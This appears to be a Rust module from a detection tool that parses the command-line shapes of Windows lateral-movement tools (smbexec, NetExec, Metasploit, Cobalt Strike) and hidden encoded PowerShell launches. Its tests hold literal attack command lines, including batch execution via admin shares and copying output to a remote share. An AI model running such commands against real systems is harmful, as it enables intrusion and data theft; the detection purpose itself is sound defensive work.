//! The shapes tools give their command lines, parsed by structure rather than matched byte for
//! byte, so that what varied across a tool's versions (output and batch file names, shares,
//! `%COMPUTERNAME%` or `127.0.0.1`, the order of PowerShell's switches) does not matter and what
//! stayed constant does.

use std::sync::LazyLock;

use regex::Regex;

fn re(pattern: &str) -> Regex {
    Regex::new(pattern).expect("valid shape regex")
}

/// smbexec's echo-into-a-batch command: `%COMSPEC% /Q /c echo <cmd> ^> <output> [2^>^&1] >
/// <batch> & %COMSPEC% /Q /c <batch> [& copy …] & [%COMSPEC% /Q /c ]del <batch>`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EchoBatch {
    /// Where the output goes (`\\127.0.0.1\C$\__output`, `\Windows\Temp\__output`).
    pub output: String,
    /// The batch file.
    pub batch: String,
    /// `del` run through another `%COMSPEC% /Q /c` (CrackMapExec/NetExec) rather than plain.
    pub del_via_comspec: bool,
    /// stderr redirected too (`2^>^&1`).
    pub stderr: bool,
}

static ECHO_BATCH: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)^\s*%COMSPEC%\s+/Q\s+/c\s+echo\s+.*\s\^>\s+(?P<out>\S+)(?P<err>\s+2\^>\^&1)?\s+>\s+(?P<bat>\S+)\s+&\s+%COMSPEC%\s+/Q\s+/c\s+(?P<run>\S+)(\s+&\s+copy\s+\S+\s+\S+)?\s+&\s+(?P<cs>%COMSPEC%\s+/Q\s+/c\s+)?del\s+(?P<del>\S+)\s*$",
    )
});

/// Parse an smbexec-style echo-batch command line.
pub fn echo_batch(image: &str) -> Option<EchoBatch> {
    let c = ECHO_BATCH.captures(image)?;
    let bat = c.name("bat")?.as_str();
    let same = |k: &str| {
        c.name(k)
            .is_some_and(|m| m.as_str().eq_ignore_ascii_case(bat))
    };
    (same("run") && same("del")).then(|| EchoBatch {
        output: c["out"].to_string(),
        batch: bat.to_string(),
        del_via_comspec: c.name("cs").is_some(),
        stderr: c.name("err").is_some(),
    })
}

/// Echo into a batch started through `start`: `%COMSPEC% /C echo <cmd> ^> <output> > <batch> &
/// %COMSPEC% /C start %COMSPEC% /C <batch>` (Metasploit's command target, Invoke-PsExec's
/// -ResultFile).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EchoStart {
    /// Where the output goes.
    pub output: String,
    /// The batch file.
    pub batch: String,
}

static ECHO_START: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)^\s*%COMSPEC%\s+/C\s+echo\s+.*\s\^>\s+(?P<out>\S+)\s+>\s+(?P<bat>\S+)\s+&\s+%COMSPEC%\s+/C\s+start\s+%COMSPEC%\s+/C\s+(?P<run>\S+)\s*$",
    )
});

/// Parse an echo-then-start command line.
pub fn echo_start(image: &str) -> Option<EchoStart> {
    let c = ECHO_START.captures(image)?;
    c["bat"].eq_ignore_ascii_case(&c["run"]).then(|| EchoStart {
        output: c["out"].to_string(),
        batch: c["bat"].to_string(),
    })
}

/// A PowerShell launch: the wrapper around it and its switches, normalised.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct PsLaunch {
    /// `%COMSPEC% /b /c start /b /min` before it (Metasploit, Cobalt Strike).
    pub hidden_start: bool,
    /// Written `powershell.exe` rather than `powershell`.
    pub dot_exe: bool,
    /// Its switches in lower case, as written (`-nop`, `-w`, `hidden`, `-encodedcommand`…),
    /// up to the payload.
    pub switches: Vec<String>,
    /// A Metasploit `[IntPtr]::Size` architecture check follows.
    pub arch_check: bool,
}

impl PsLaunch {
    /// Whether a switch was written exactly so.
    pub fn has(&self, switch: &str) -> bool {
        self.switches.iter().any(|s| s == switch)
    }
}

/// Parse the PowerShell launch in a command line, if there is one.
pub fn ps_launch(image: &str) -> Option<PsLaunch> {
    let lower = image.to_ascii_lowercase();
    // The program itself, not a folder named after it (`WindowsPowerShell\v1.0\`).
    let at = lower
        .match_indices("powershell")
        .map(|(i, _)| i)
        .find(|&i| {
            matches!(
                lower[i + "powershell".len()..].chars().next(),
                None | Some(' ' | '.' | '"' | '\'')
            )
        })?;
    let before = &lower[..at];
    let mut p = PsLaunch {
        hidden_start: before.contains("start /b /min"),
        arch_check: lower.contains("[intptr]::size"),
        ..PsLaunch::default()
    };
    let rest = &lower[at + "powershell".len()..];
    p.dot_exe = rest.starts_with(".exe");
    for word in rest.split_whitespace() {
        let word = word.trim_matches('"');
        if word.starts_with('-') || word.starts_with('/') {
            let payload_follows = matches!(
                word,
                "-c" | "-command" | "-e" | "-ec" | "-enc" | "-encodedcommand"
            );
            p.switches.push(word.to_string());
            if payload_follows {
                break;
            }
        } else if p.switches.last().is_some_and(|s| {
            matches!(
                s.as_str(),
                "-w" | "-window"
                    | "-windowstyle"
                    | "-ep"
                    | "-exec"
                    | "-executionpolicy"
                    | "-v"
                    | "-version"
            )
        }) {
            p.switches.push(word.to_string());
        } else if !word.is_empty() && !word.starts_with(".exe") {
            break;
        }
    }
    Some(p)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_smbexec_spelling_parses() {
        for image in [
            r"%COMSPEC% /Q /c echo cd ^> \Windows\Temp\__output > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat",
            r"%COMSPEC% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat",
            r"%COMSPEC% /Q /c echo whoami ^> \\%COMPUTERNAME%\C$\__output 2^>^&1 > %SYSTEMROOT%\TQtkUbvS.bat & %COMSPEC% /Q /c %SYSTEMROOT%\TQtkUbvS.bat & del %SYSTEMROOT%\TQtkUbvS.bat",
            r"%COMSPEC% /Q /c echo dir ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & copy \\127.0.0.1\C$\__output \\10.0.0.5\TMP & del %TEMP%\execute.bat",
        ] {
            let e = echo_batch(image).unwrap_or_else(|| panic!("{image}"));
            assert!(!e.del_via_comspec, "{image}");
        }
        let nxc = echo_batch(r"%COMSPEC% /Q /c echo whoami ^> \\%COMPUTERNAME%\C$\aBcDeF 2^>^&1 > %TEMP%\gHiJkL.bat & %COMSPEC% /Q /c %TEMP%\gHiJkL.bat & %COMSPEC% /Q /c del %TEMP%\gHiJkL.bat").unwrap();
        assert!(nxc.del_via_comspec);
        assert_eq!(nxc.output, r"\\%COMPUTERNAME%\C$\aBcDeF");
        assert!(
            echo_batch(r"%COMSPEC% /Q /c echo a ^> x > a.bat & %COMSPEC% /Q /c b.bat & del a.bat")
                .is_none()
        );
    }

    #[test]
    fn echo_start_parses() {
        let m = echo_start(r"%COMSPEC% /C echo whoami ^> %SYSTEMDRIVE%\Windows\Temp\AbCdEfGhIj.txt > \Windows\Temp\KlMnOpQr.bat & %COMSPEC% /C start %COMSPEC% /C \Windows\Temp\KlMnOpQr.bat").unwrap();
        assert_eq!(m.output, r"%SYSTEMDRIVE%\Windows\Temp\AbCdEfGhIj.txt");
    }

    #[test]
    fn powershell_switches_in_any_order() {
        let p = ps_launch(
            r"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c if(x)",
        )
        .unwrap();
        assert!(p.hidden_start && p.dot_exe && p.has("-noni") && p.has("hidden"));
        let p = ps_launch(
            "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand abc",
        )
        .unwrap();
        assert!(!p.dot_exe && p.has("-encodedcommand"));
        let p = ps_launch("powershell -Sta -Nop -Window Hidden -EncodedCommand abc").unwrap();
        assert_eq!(
            p.switches,
            ["-sta", "-nop", "-window", "hidden", "-encodedcommand"]
        );
        let p = ps_launch(
            r"C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc  SQBm",
        )
        .unwrap();
        assert_eq!(p.switches, ["-nop", "-sta", "-w", "1", "-enc"]);
    }
}
